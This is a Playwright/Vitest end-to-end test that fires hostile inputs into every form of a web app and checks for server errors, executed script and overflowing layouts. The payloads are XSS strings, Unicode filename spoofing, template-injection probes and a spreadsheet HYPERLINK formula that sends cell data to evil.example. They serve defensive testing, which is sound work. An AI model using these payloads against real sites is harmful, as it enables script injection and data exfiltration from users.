import type { Browser, BrowserContext, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { designSchemas } from '#features/programmes/design.contract.ts'
import { openBrowser } from './browser.ts'
import { proposePairs } from './coordinator-steps.ts'
import { crawl } from './crawl.ts'
import { watchFaults, widthFaults } from './page-checks.ts'
import { plainHand } from './plain-hand.ts'
import { startProduct, type RunningProduct } from './start-product.ts'

/** What people paste, and what people try. */
const hostile: Readonly<Record<string, string>> = {
  script: `"><script>window.broken = 1</script><img src=x onerror="window.broken = 1"><a href="javascript:window.broken=1">x</a>`,
  direction: '\u202egpj.exe\u202c \u2066left open \u200f\u200b',
  nothing: 'before\0after',
  long: 'W'.repeat(10_000),
  wide: 'W'.repeat(90),
  picture: `👩🏽‍💻 é "O'Brien" \`’‚‘ ﷽ \ud83d`,
  formula: `=HYPERLINK("https://evil.example?"&A1,"x")`,
  template: '{name} {{7*7}} ${7*7} %s %n <%= 7*7 %> #{7*7}',
}

interface Field {
  readonly name: string
  readonly kind: 'text' | 'given'
  readonly value: string
}
interface FoundForm {
  readonly action: string
  readonly method: string
  readonly fields: readonly Field[]
}

let product: RunningProduct
let browser: Browser
let room: BrowserContext
let page: Page

beforeAll(async () => {
  product = await startProduct({ demo: true })
  browser = await openBrowser()
  room = await browser.newContext({ viewport: { width: 390, height: 844 }, locale: 'en-US' })
  page = await room.newPage()
  const hand = plainHand(page)
  await page.goto(product.link('coordinator'))
  await hand.press('Sign in')
  await hand.follow('Match')
  await proposePairs(hand)
  await page.goto(`${product.url}/`)
}, 600_000)
afterAll(async () => {
  await browser.close()
  await product.stop()
})

/** The forms of the open page that take words, each field with what a person who touches nothing else would send. */
async function formsOfPage(): Promise<FoundForm[]> {
  return page.evaluate(() => {
    const words = new Set(['text', 'search', 'email', 'url', 'tel', 'textarea'])
    return [...document.forms].flatMap((form) => {
      const seen = new Set<string>()
      const fields = [...form.elements].flatMap((element) => {
        if (
          !(
            element instanceof HTMLInputElement ||
            element instanceof HTMLTextAreaElement ||
            element instanceof HTMLSelectElement
          )
        )
          return []
        const { name, type, value } = element
        if (name === '' || type === 'file' || type === 'submit') return []
        // Of several that stand for one answer the first is chosen.
        if ((type === 'radio' || type === 'checkbox') && seen.has(name)) return []
        seen.add(name)
        return [{ name, kind: words.has(type) ? ('text' as const) : ('given' as const), value }]
      })
      return fields.some(({ kind }) => kind === 'text')
        ? [{ action: form.action, method: form.method, fields }]
        : []
    })
  })
}

/** Sends a form as a browser would, with this text in every field that takes words. */
async function send(
  { action, method, fields }: FoundForm,
  text: string,
): Promise<{ status: number; body: string }> {
  const values = new URLSearchParams(
    fields.map(({ name, kind, value }): [string, string] => [
      name,
      kind === 'text' ? text : name === '_submission' ? crypto.randomUUID() : value,
    ]),
  )
  const answer =
    method === 'get'
      ? await room.request.get(`${action.split('?')[0]!}?${values}`, { maxRedirects: 0 })
      : await room.request.post(action, {
          data: values.toString(),
          headers: { 'content-type': 'application/x-www-form-urlencoded', origin: product.url },
          maxRedirects: 0,
        })
  return { status: answer.status(), body: await answer.text() }
}

describe('whatever is typed into the fields of a coordinator', () => {
  test('is kept, or refused in a sentence, and breaks nothing', { timeout: 1_500_000 }, async () => {
    const addresses = [...(await crawl(page, product.url)).values(), ...(await questions())]
    const broken: string[] = []
    const tried = { forms: 0, kept: 0, refused: 0 }
    const known = new Set<string>()
    for (const path of addresses) {
      await page.goto(product.url + path)
      for (const form of await formsOfPage()) {
        const mark = `${form.action.split('?')[0]} ${form.fields.map(({ name }) => name).join()}`
        if (known.has(mark)) continue
        known.add(mark)
        tried.forms += 1
        for (const [kind, text] of Object.entries(hostile)) {
          const { status } = await send(form, text)
          if (status >= 500) broken.push(`${kind} in ${mark}: ${status}`)
          else if (status < 400) tried.kept += 1
          else tried.refused += 1
        }
      }
    }
    expect(broken).toEqual([])
    expect(tried.forms).toBeGreaterThan(30)
    expect(tried.kept).toBeGreaterThan(40)
    expect(tried.refused).toBeGreaterThan(20)
  })

  test(
    'runs nowhere it is shown, asks nothing of others, and makes no page wider than its window',
    { timeout: 900_000 },
    async () => {
      const faults = watchFaults(page, product.url)
      await page.goto(`${product.url}/programmes/all`)
      const wide: Record<string, readonly string[]> = {}
      const addresses = await crawl(page, product.url)
      const outbox = await mailsShown()
      for (const path of [...addresses.values(), ...outbox, ...(await questions())]) {
        await page.goto(product.url + path)
        const found = await widthFaults(page)
        if (found.length > 0) wide[path] = found
        expect(await page.evaluate(() => 'broken' in window), path).toBe(false)
        expect(await page.locator('a[href^="javascript:"]').count(), path).toBe(0)
      }
      expect(wide).toEqual({})
      expect(faults).toEqual([])
    },
  )
})

async function mailsShown(): Promise<string[]> {
  await page.goto(`${product.url}/outbox`)
  const links = await page
    .locator('a[href^="/outbox/"]')
    .evaluateAll((all) => all.map((link) => link.getAttribute('href')!))
  return [...new Set(links)].slice(0, 12)
}

/** Every question of the design, which one link each leads to. */
async function questions(): Promise<string[]> {
  await page.goto(`${product.url}/programmes/all`)
  const programmes = await page
    .locator('a[href^="/programmes/"]')
    .evaluateAll((all) => all.map((link) => link.getAttribute('href')!))
  const home = programmes.find((path) => /^\/programmes\/[0-9a-f-]{36}$/.test(path))!
  return Object.keys(designSchemas).map((key) => `${home}/design/${key}`)
}
